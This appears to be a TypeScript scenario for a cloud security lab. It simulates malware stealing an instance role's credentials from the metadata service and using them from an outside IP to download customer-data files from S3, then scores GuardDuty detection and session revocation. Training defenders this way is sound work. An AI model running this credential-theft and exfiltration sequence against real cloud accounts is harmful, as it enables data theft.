// Lab advanced: the application role's credentials stolen from app-1 and used from outside. Malware on
// app-1 reads them from the instance metadata service as any process on the instance can (the IMDSv2
// token, then iam/security-credentials/<role>), and the attacker lists and downloads the customer-data
// bucket (after an `aws s3 ls`) from an address outside AWS, every five minutes for twenty minutes. GuardDuty knows those
// credentials belong to an instance. Blocked when the stolen credentials are refused from some step on
// (the role's sessions revoked: an inline Deny on aws:TokenIssueTime, as the console's "Revoke active
// sessions" writes it).
import { S3Client, ListBucketsCommand, ListObjectsV2Command, GetObjectCommand } from '@aws-sdk/client-s3';
import type { AttackStep, Scenario } from '../src/engine/types.ts';
import type { AwsCredentials } from '../src/cloud/labcloud.ts';
import { instance } from '../labs/network/company.ts';
import { INSTANCE_ROLE } from '../labs/advanced/company.ts';
import { attempt } from './lib/attack.ts';
import { ATTACK_STEPS, detection, emptyTally, freshRogueIp, judge, labEnv, runAttack, type AttackState } from './lib/advanced.ts';

interface State extends AttackState {
  ip: string;
  victim: { name: string; id: string };
  stolen?: AwsCredentials;
  why?: string;
  /** Per step: were all the attacker's calls refused? */
  refusedSteps: boolean[];
}

export const stolenInstanceCredentialsScenario: Scenario = {
  id: 'stolen-instance-credentials',
  title: 'The app role\'s instance credentials stolen and used from outside',
  description: 'Malware on app-1 reads the northwind-app role\'s credentials from the instance metadata service; the attacker uses them from a host outside AWS to list and download the customer-data bucket, every five minutes.',
  techniques: ['T1552.005', 'T1078.004', 'T1530'],
  detections: ['GuardDuty: UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS'],
  points: { detected: 4, blocked: 4 },
  async prepare(session): Promise<State> {
    const env = labEnv(session);
    const app = instance(env, 'app-1');
    const st: State = { ip: freshRogueIp(session), victim: { name: app.name, id: app.id }, start: 0, steps: [], business: emptyTally(), refusedSteps: [] };
    session.hidden['stolenCredentialsIp'] = st.ip;
    // What any process on app-1 gets: IMDSv2 token, then the role's credentials.
    const r = await session.gateway.service('ec2').imds.sdkGet(session.accountId, app.id, `/latest/meta-data/iam/security-credentials/${INSTANCE_ROLE}`);
    if (r.status !== 200) {
      st.why = `app-1's metadata service did not hand out the role's credentials (HTTP ${r.status})`;
      return st;
    }
    const c = JSON.parse(r.body) as { AccessKeyId: string; SecretAccessKey: string; Token: string };
    st.stolen = { accessKeyId: c.AccessKeyId, secretAccessKey: c.SecretAccessKey, sessionToken: c.Token };
    return st;
  },
  async inject(session, state) {
    const st = state as State;
    const env = labEnv(session);
    if (!st.stolen) return [];
    const s3 = session.client(S3Client, { credentials: st.stolen, sourceIp: st.ip });
    return runAttack(session, st, '', () => [], async (i): Promise<AttackStep[]> => {
      const steps: AttackStep[] = [];
      // `aws s3 ls` first (a management event: GuardDuty sees it without S3 protection), then the data.
      steps.push(await attempt(session, `step ${i + 1}: ListBuckets from ${st.ip} with app-1's role credentials`, () => s3.send(new ListBucketsCommand({}))));
      steps.push(await attempt(session, `step ${i + 1}: ListObjectsV2 ${env.dataBucket}`, () => s3.send(new ListObjectsV2Command({ Bucket: env.dataBucket, Prefix: 'customers/' }))));
      for (const key of ['customers/emea.csv', 'customers/amer.csv', 'customers/apac.csv']) {
        steps.push(await attempt(session, `step ${i + 1}: GetObject ${key}`, async () => (await s3.send(new GetObjectCommand({ Bucket: env.dataBucket, Key: key }))).Body?.transformToString()));
      }
      st.refusedSteps.push(steps.every((x) => !x.allowed));
      return steps;
    });
  },
  async observe(session, steps, state) {
    const st = state as State;
    if (!st.stolen) return { detected: false, blocked: false, steps, evidence: [], feedback: `the scenario could not steal the credentials: ${st.why}` };
    const d = await detection(session, st.start, {
      guardDuty: {
        types: ['UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS', 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS'],
        about: (f) => JSON.stringify(f.resource).includes(st.stolen!.accessKeyId) || JSON.stringify(f.resource).includes(INSTANCE_ROLE),
      },
    });
    let from: number | undefined;
    for (let i = st.refusedSteps.length - 1; i >= 0 && st.refusedSteps[i]; i--) from = i;
    const allowed = steps.filter((x) => x.allowed).length;
    const firstRefused = from !== undefined ? steps.find((x) => !x.allowed && x.at >= (st.steps[from]?.from ?? 0)) : undefined;
    return judge(session, st, steps, d, {
      blocked: from !== undefined, ...(firstRefused ? { effectiveAt: firstRefused.at } : {}),
      blockedText: (by) => `blocked: the stolen credentials were refused from step ${from! + 1} of ${ATTACK_STEPS}${by} (${allowed} calls got through before)`,
      notBlockedText: `not blocked: the stolen credentials still worked in the last step (${allowed} calls got through) — revoke the role's sessions: an inline Deny of everything for aws:TokenIssueTime before now (DateLessThan)`,
    });
  },
};
